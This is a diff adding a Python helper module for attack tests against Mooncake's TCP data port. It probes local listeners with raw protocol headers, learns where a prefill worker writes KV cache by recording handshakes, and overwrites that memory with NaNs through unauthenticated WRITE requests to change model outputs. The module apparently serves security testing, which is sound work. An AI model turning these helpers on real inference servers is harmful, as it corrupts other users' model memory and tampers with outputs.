@@ -1,0 +1,111 @@
+"""A stranger's view of Mooncake's TCP data port (0.3.13.post1), for the attack tests in a network
+namespace: its raw request framing, finding a worker's data port, and where a prefill writes.
+
+Mooncake's TCP server reads a 24-byte header per request, `{u64 size; u64 addr; u8 opcode}` (7
+bytes of padding; tcp_transport_session_impl.h `SessionHeader`), checks `[addr, addr + size)`
+against its registered memory once, then reads (WRITE) or sends (READ) the body, at the peer's
+pace. Opcode bit 0x80 asks for protocol v2, whose 8-byte status frame ("MCTV" << 32 | code)
+answers whether the range was accepted.
+"""
+from __future__ import annotations
+
+import socket
+import struct
+from pathlib import Path
+
+from deepseek_pd.proto import bootstrap_pb2 as pb
+
+HEADER = struct.Struct("<QQB7x")
+READ, WRITE, V2 = 0, 1, 0x80
+STATUS_OK = 0x4D435456 << 32
+
+
+def listening_ports() -> list[int]:
+    """The TCP ports something listens on in this network namespace."""
+    ports = set()
+    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
+        if not Path(table).exists():
+            continue
+        for line in Path(table).read_text().splitlines()[1:]:
+            fields = line.split()
+            if fields[3] == "0A":  # TCP_LISTEN
+                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
+    return sorted(ports)
+
+
+def _recv_exactly(sock: socket.socket, count: int) -> bytes:
+    data = b""
+    while len(data) < count:
+        piece = sock.recv(count - len(data))
+        if not piece:
+            break
+        data += piece
+    return data
+
+
+def find_data_port(addr: int, length: int) -> int:
+    """The port whose Mooncake server has `[addr, addr + length)` registered now: the only one that
+    answers a v2 READ of it with the OK status frame."""
+    for port in listening_ports():
+        try:
+            with socket.create_connection(("127.0.0.1", port), timeout=1.0) as sock:
+                sock.sendall(HEADER.pack(length, addr, READ | V2))
+                frame = _recv_exactly(sock, 8)
+        except OSError:
+            continue
+        if len(frame) == 8 and struct.unpack("<Q", frame)[0] == STATUS_OK:
+            return port
+    raise AssertionError(f"no listener has {length} bytes at {addr:#x} registered")
+
+
+def start_write(port: int, addr: int, length: int) -> socket.socket:
+    """Sends a v2 WRITE header for `[addr, addr + length)` and no body yet: the server checks the
+    range now and then waits for the body (`send_bodies`), after which it answers the status frame."""
+    sock = socket.create_connection(("127.0.0.1", port), timeout=5.0)
+    sock.sendall(HEADER.pack(length, addr, WRITE | V2))
+    return sock
+
+
+def record_handshakes(sender) -> dict[str, pb.Handshake]:
+    """Every handshake `sender` (a prefill worker's KV sender) opens, by decode rid: where that prefill
+    writes (`mooncake.layer_base_addrs[l] + page_ids[i] * page_bytes`), which a stranger learns from
+    the decode engine's own handshake service."""
+    seen: dict[str, pb.Handshake] = {}
+    opener = sender.open
+
+    def recording(handshake, *args, **kwargs):
+        copy = pb.Handshake()
+        copy.CopyFrom(handshake)
+        seen[handshake.decode_rid] = copy
+        return opener(handshake, *args, **kwargs)
+    sender.open = recording
+    return seen
+
+
+def first_page_addr(handshake: pb.Handshake) -> tuple[int, int]:
+    """(address, bytes) of the first page of layer 0 that the handshake tells its prefill to write."""
+    destination = handshake.mooncake
+    return destination.layer_base_addrs[0] + handshake.page_ids[0] * destination.page_bytes, destination.page_bytes
+
+
+def nan_bytes(length: int) -> bytes:
+    """`length` bytes of float32 NaNs (what the attacks write: any dtype's KV read from them is NaN
+    or garbage, which changes a greedy output)."""
+    return struct.pack("<f", float("nan")) * (length // 4) + b"\xff" * (length % 4)
+
+
+async def send_bodies(writes: list[tuple[socket.socket, int, int]], timeout_s: float = 5.0,
+                      body=nan_bytes) -> None:
+    """Sends bodies (`body(length)`: NaNs by default) on the started writes `(sock, addr, length)`
+    and returns once the server said each one is in memory (its v2 status frame; read in a thread,
+    off the event loop)."""
+    import asyncio
+
+    def finish() -> None:
+        for sock, addr, length in writes:
+            sock.settimeout(timeout_s)
+            sock.sendall(body(length))
+            frame = _recv_exactly(sock, 8)
+            assert len(frame) == 8 and struct.unpack("<Q", frame)[0] == STATUS_OK, \
+                f"the late body at {addr:#x} was not applied: {frame!r}"
+    await asyncio.to_thread(finish)
